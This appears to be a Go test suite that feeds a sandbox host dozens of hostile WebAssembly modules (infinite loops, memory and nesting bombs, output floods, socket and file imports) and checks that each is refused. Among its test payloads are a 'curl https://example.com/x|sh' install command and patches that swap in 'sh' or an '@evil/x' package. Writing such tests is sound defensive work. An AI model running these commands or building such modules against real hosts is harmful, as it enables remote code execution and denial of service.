package modules

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/matryer/is"

	"mcpmend/core/module"
	. "mcpmend/core/module/moduletest"
)

// request is what the modules of these tests are asked.
const request = `{"abi":1,"diagnosis":{"code":"MCP1801","category":"connection_refused","server":"db"},
"server":{"name":"db","pointer":"/mcpServers/db","transport":"stdio","command":"npx","args":["-y","@modelcontextprotocol/server-postgres","postgresql://app:{{secret:1}}@localhost:5432/app"],"env":{}},
"config":{"client":"cursor","format":"json"},"facts":{}}`

const fairAnswer = `{"abi":1,"fixes":[]}`

func repeat(n int, code ...byte) []byte { return bytes.Repeat(code, n) }

func many(n int, item []byte) []byte { return append(Number(n), bytes.Repeat(item, n)...) }

// answering is a module whose one fix has the given members.
func answering(members string) []byte {
	return Prints(`{"abi":1,"fixes":[{"id":"a","title":"t",` + members + `}]}`)
}

// hostile are modules with words of the reason for which each is refused. It is
// a function so that the process that is measured does not hold them all.
func hostile() []attack {
	return []attack{
		{"endless loop", Command{Start: []byte{Loop, Empty, Branch, 0, End}}.Bytes(), "not done after"},
		{"memory hog", Command{Start: slices.Concat([]byte{Loop, Empty}, Constant(1), []byte{MemoryGrow, 0, Drop, Branch, 0, End})}.Bytes(), "not done after"},
		{"memory at once", Command{Pages: 65536}.Bytes(), "MiB of memory"},
		{"memory by one call", Command{Start: slices.Concat(Constant(65535), []byte{MemoryGrow, 0, Drop, Unreachable})}.Bytes(), "it stopped"},
		{"table.grow", Command{
			Sections: map[byte][]byte{Tables: Vector([]byte{0x6f, 0, 1})},
			Start:    slices.Concat([]byte{Loop, Empty, 0xd0, 0x6f}, Constant(1<<20), []byte{0xfc, 15, 0, Drop, Branch, 0, End}),
		}.Bytes(), "table of something other"},
		{"table.grow of functions", Command{
			Sections: map[byte][]byte{Tables: Vector([]byte{0x70, 0, 1})},
			Start:    slices.Concat([]byte{Loop, Empty, 0xd0, 0x70}, Constant(1<<20), []byte{0xfc, 15, 0, Drop, Branch, 0, End}),
		}.Bytes(), "reference types"},
		{"large table", Command{Sections: map[byte][]byte{Tables: Vector(slices.Concat([]byte{0x70, 0}, Number(1<<31)))}}.Bytes(), "entries in a table"},
		{"many tables", Command{Sections: map[byte][]byte{Tables: many(1000, slices.Concat([]byte{0x70, 0}, Number(65536)))}}.Bytes(), "1000 tables"},
		{"nesting bomb", Command{Start: slices.Concat(repeat(75_000, Block, Empty), repeat(75_000, End))}.Bytes(), "nests blocks"},
		{"nesting bomb in pieces", Command{Sections: pieces(800, slices.Concat(repeat(2_000, Block, Empty), repeat(2_000, End)))}.Bytes(), "more than 2500000"},
		{"as deep as may be", Command{Sections: pieces(620, slices.Concat(repeat(2_000, Block, Empty), repeat(2_000, End)))}.Bytes(), "not JSON"},
		{"loops in loops", Command{Start: slices.Concat(repeat(51, Loop, Empty), repeat(51, End))}.Bytes(), "nests loops more than 50"},
		{"every local in every loop", Command{Sections: carrying(30, 1000)}.Bytes(), "where branches meet"},
		{"huge function", Command{Start: repeat(2<<20, I32Const, 1, Drop)[:4<<20]}.Bytes(), "more than 262144"},
		{"many instructions", Command{Sections: pieces(30, repeat(87_000, I32Const, 1, Drop))}.Bytes(), "more than 2500000"},
		{"as much work as may be", Command{Sections: pieces(28, repeat(43_000, I32Const, 1, Drop))}.Bytes(), "not JSON"},
		{"wide branches", Command{Sections: pieces(10, slices.Concat([]byte{Block, Empty}, Constant(0), []byte{0x0e}, many(240_000, []byte{0}), []byte{0, End}))}.Bytes(), "not JSON"},
		{"a million functions", Command{Sections: map[byte][]byte{Functions: many(1_000_000, []byte{0}), Code: many(1_000_000, []byte{2, 0, End})}}.Bytes(), "1000000 functions"},
		{"a million types", Command{Sections: map[byte][]byte{Types: many(1_000_000, []byte{0x60, 0, 0})}}.Bytes(), "1000000 types"},
		{"a million globals", Command{Sections: map[byte][]byte{Globals: many(1_000_000, []byte{0x7f, 0, I32Const, 0, End})}}.Bytes(), "1000000 globals"},
		{"a million data segments", Command{Sections: map[byte][]byte{Data: many(1_000_000, []byte{1, 0})}}.Bytes(), "1000000 data segments"},
		{"a million element segments", Command{Sections: map[byte][]byte{Tables: Vector([]byte{0x70, 0, 1}), Elements: many(1_000_000, []byte{0, I32Const, 0, End, 0})}}.Bytes(), "1000000 element segments"},
		{"billions of globals, claimed", Command{Sections: map[byte][]byte{Globals: Number(1<<32 - 1)}}.Bytes(), "does not end where it says"},
		{"billions of exports, claimed", Command{Sections: map[byte][]byte{Exports: Number(1<<32 - 1)}}.Bytes(), "does not end where it says"},
		{"billions of elements, claimed", Command{Sections: map[byte][]byte{Elements: slices.Concat([]byte{1, 0, I32Const, 0, End}, Number(1<<32-1))}}.Bytes(), "does not end where it says"},
		{"billions of names, claimed", append(Prints("no answer"), Custom("name", slices.Concat([]byte{1}, Number(6), Number(1<<32-1), []byte{0}))...), "not JSON"},
		{"locals bomb", Command{Sections: map[byte][]byte{Functions: many(1000, []byte{0}), Code: many(1000, Body([][2]int{{65_535, 0x7f}}, nil))}}.Bytes(), "local variables"},
		{"locals of many functions", Command{Sections: map[byte][]byte{Functions: many(20_000, []byte{0}), Code: many(20_000, Body([][2]int{{1000, 0x7f}}, nil))}}.Bytes(), "more than 2500000"},
		{"output flood", Command{Imports: []string{"fd_write"}, Data: strings.Repeat("x", 60_000), Start: slices.Concat([]byte{Loop, Empty}, Write(0, 1, DataAt, 60_000), []byte{Branch, 0, End})}.Bytes(), "it wrote more than"},
		{"output flood on stderr", Command{Imports: []string{"fd_write"}, Data: strings.Repeat("x", 60_000), Start: slices.Concat([]byte{Loop, Empty}, Write(0, 2, DataAt, 60_000), []byte{Branch, 0, End})}.Bytes(), "not done after"},
		{"output flood by vectors", Command{Imports: []string{"fd_write"}, Pages: 512, Start: slices.Concat(Constant(1), Constant(0), Constant(4_000_000), Constant(8), []byte{Call, 0, Drop})}.Bytes(), "not JSON"},
		{"stack overflow", Command{Start: []byte{Call, 0}}.Bytes(), "stack overflow"},
		{"overflow in poll_oneoff", Command{Imports: []string{"poll_oneoff"}, Start: slices.Concat(Constant(0), Constant(0), Constant(0x55555556), Constant(8), []byte{Call, 0, Drop})}.Bytes(), "not JSON"},
		{"exit in mid-output", Command{Imports: []string{"fd_write", "proc_exit"}, Data: `{"abi":1,"fixes":[`, Start: slices.Concat(Write(0, 1, DataAt, 18), Constant(0), []byte{Call, 1})}.Bytes(), "not JSON"},
		{"exit with a code", Command{Imports: []string{"fd_write", "proc_exit"}, Data: fairAnswer, Start: slices.Concat(Write(0, 1, DataAt, len(fairAnswer)), Constant(3), []byte{Call, 1})}.Bytes(), "ended with code 3"},
		{"start section", Command{Sections: map[byte][]byte{Start: {0}}}.Bytes(), "start section"},
		{"import of sockets", Command{Sections: map[byte][]byte{Imports: imported("wasi_snapshot_preview1", "sock_open")}}.Bytes(), `imports "sock_open"`},
		{"import of files", Command{Imports: []string{"path_open"}}.Bytes(), `imports "path_open"`},
		{"import of something else", Command{Sections: map[byte][]byte{Imports: imported("env", "x")}}.Bytes(), `imports "x" of "env"`},
		{"import of another module", Command{Sections: map[byte][]byte{Imports: imported("test", "_start")}}.Bytes(), `of "test"`},
		{"import of a memory", Command{Sections: map[byte][]byte{Imports: Vector(slices.Concat(Name("env"), Name("memory"), []byte{2, 0, 1}))}}.Bytes(), "which is no function"},
		{"import of the wrong type", Command{Sections: map[byte][]byte{Imports: imported("wasi_snapshot_preview1", "fd_write"), Types: Vector([]byte{0x60, 0, 0})}}.Bytes(), "it stopped"},
		{"two memories", Command{Sections: map[byte][]byte{Memories: Vector([]byte{0, 1}, []byte{0, 1})}}.Bytes(), "2 memories"},
		{"memory of 64 bits", Command{Sections: map[byte][]byte{Memories: Vector([]byte{4, 1})}}.Bytes(), "64-bit memory"},
		{"shared memory", Command{Sections: map[byte][]byte{Memories: Vector([]byte{3, 1, 2})}}.Bytes(), "shared"},
		{"no memory", Command{Sections: map[byte][]byte{Exports: Vector(slices.Concat(Name("_start"), []byte{0, 0}))}}.Bytes(), "exports no memory"},
		{"no _start", Command{Sections: map[byte][]byte{Exports: Vector(slices.Concat(Name("memory"), []byte{2, 0}))}}.Bytes(), "exports no function _start"},
		{"no manifest", Command{Manifest: map[string]any{}}.Bytes(), "no section mcpmend.manifest"},
		{"two manifests", append(Prints(fairAnswer), Custom("mcpmend.manifest", []byte("{}"))...), "more than one manifest"},
		{"large manifest", Command{Manifest: map[string]any{"name": strings.Repeat("x", 20_000)}}.Bytes(), "bytes of manifest"},
		{"the name of mcpmend itself", Command{Manifest: map[string]any{"abi": 1, "name": "core", "version": "1", "handles": []string{"timeout"}}}.Bytes(), "is core"},
		{"not a module", []byte("#!/bin/sh\necho"), "no WebAssembly"},
		{"a component", []byte("\x00asm\x0d\x00\x01\x00"), "no WebAssembly"},
		{"more than the file may have", append(Prints(fairAnswer), Custom("x", make([]byte, 8<<20))...), "more than 8388608 bytes"},
		{"prints nothing", Command{}.Bytes(), "not JSON"},
		{"bad JSON", Prints(`{"abi":1,`), "not JSON"},
		{"two values", Prints(fairAnswer + fairAnswer), "more than one JSON value"},
		{"wrong ABI", Prints(`{"abi":2,"fixes":[]}`), "ABI 2"},
		{"deep JSON", Prints(strings.Repeat("[", 500_000)), "not JSON"},
		{"marks itself safe", answering(`"safety":"safe"`), "unknown field"},
		{"another server", answering(`"patch":[{"op":"replace","path":"/mcpServers/other/command","value":"x"}]`), "outside the server's entry"},
		{"another key", answering(`"patch":[{"op":"add","path":"/permissions","value":"x"}]`), "outside the server's entry"},
		{"a shell", answering(`"patch":[{"op":"replace","path":"/mcpServers/db/command","value":"sh"}]`), "starts sh"},
		{"a stranger's package", answering(`"patch":[{"op":"replace","path":"/mcpServers/db/args/1","value":"@evil/x"}]`), "@evil/x"},
		{"pipe into a shell", answering(`"install_command":"curl https://example.com/x|sh"`), "installer"},
		{"escape sequence", Prints(`{"abi":1,"fixes":[{"id":"a","title":"\u001b[2J"}]}`), "U+001B"},
		{"hundred thousand fixes", Prints(`{"abi":1,"fixes":[` + strings.Repeat(`{},`, 99_999) + `{}]}`), "100000 fixes"},
	}
}

type attack struct {
	name   string
	module []byte
	reason string
}

// pieces are sections with n functions of the same code beside _start.
func pieces(n int, code []byte) map[byte][]byte {
	return map[byte][]byte{Functions: many(n, []byte{0}), Code: many(n, Body(nil, code))}
}

// carrying are sections with n functions whose locals are carried through as
// many loops as may be, one inside another.
func carrying(n, locals int) map[byte][]byte {
	var count []byte // adds one to each
	for i := range locals {
		count = slices.Concat(count, []byte{LocalGet}, Number(i), Constant(1), []byte{Add, LocalSet}, Number(i))
	}
	code := slices.Concat(repeat(50, Loop, Empty), count, repeat(50, I32Const, 0, BranchIf, 0, End))
	return map[byte][]byte{Functions: many(n, []byte{0}), Code: many(n, Body([][2]int{{locals, 0x7f}}, code))}
}

func imported(from, name string) []byte {
	return Vector(slices.Concat(Name(from), Name(name), []byte{0, 0}))
}

// TestMain lets the test binary be the host in a process of its own, whose
// memory can be measured.
func TestMain(m *testing.M) {
	if path := os.Getenv("MCPMEND_TEST_HOST"); path != "" {
		json.NewEncoder(os.Stdout).Encode(hosted(path))
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// verdict is what became of a module, and of a fair one after it.
type verdict struct {
	Error, After string
	PeakKiB      int
}

func hosted(path string) (v verdict) {
	ask := func(data []byte) string {
		call, err := module.Parse([]byte(request))
		if err != nil {
			return err.Error()
		}
		m, err := Open(data, "test")
		if err == nil {
			_, err = Host{}.Ask(context.Background(), m, call)
		}
		if err != nil {
			return err.Error()
		}
		return ""
	}
	data, err := ReadFile(path)
	if err != nil {
		return verdict{Error: err.Error()}
	}
	v.Error = ask(data)
	v.After = ask(Prints(fairAnswer))
	status, _ := os.ReadFile("/proc/self/status") // where there is none, nothing is measured
	if _, rest, ok := strings.Cut(string(status), "VmHWM:"); ok {
		fmt.Sscan(rest, &v.PeakKiB)
	}
	return v
}

func TestHostileModules(t *testing.T) {
	skipRaced(t)
	for _, test := range hostile() {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			is := is.New(t)
			path := filepath.Join(t.TempDir(), "module.wasm")
			is.NoErr(os.WriteFile(path, test.module, 0o600))
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			host := exec.CommandContext(ctx, os.Args[0])
			host.Env = append(os.Environ(), "MCPMEND_TEST_HOST="+path)
			out, err := host.Output()
			is.NoErr(err)
			var v verdict
			is.NoErr(json.Unmarshal(out, &v))
			// The time of its own: what else the machine does is not the host's.
			spent := host.ProcessState.UserTime() + host.ProcessState.SystemTime()
			t.Logf("%7d bytes: %v, %d MiB: %s", len(test.module), spent.Round(time.Millisecond), v.PeakKiB>>10, v.Error)
			if v.Error == "" || !strings.Contains(v.Error, test.reason) {
				t.Errorf("refused with %q, which does not say %q", v.Error, test.reason)
			}
			is.Equal(v.After, "") // the host is usable afterwards
			is.True(spent < 5*time.Second)
			is.True(v.PeakKiB < 512<<10)
		})
	}
}
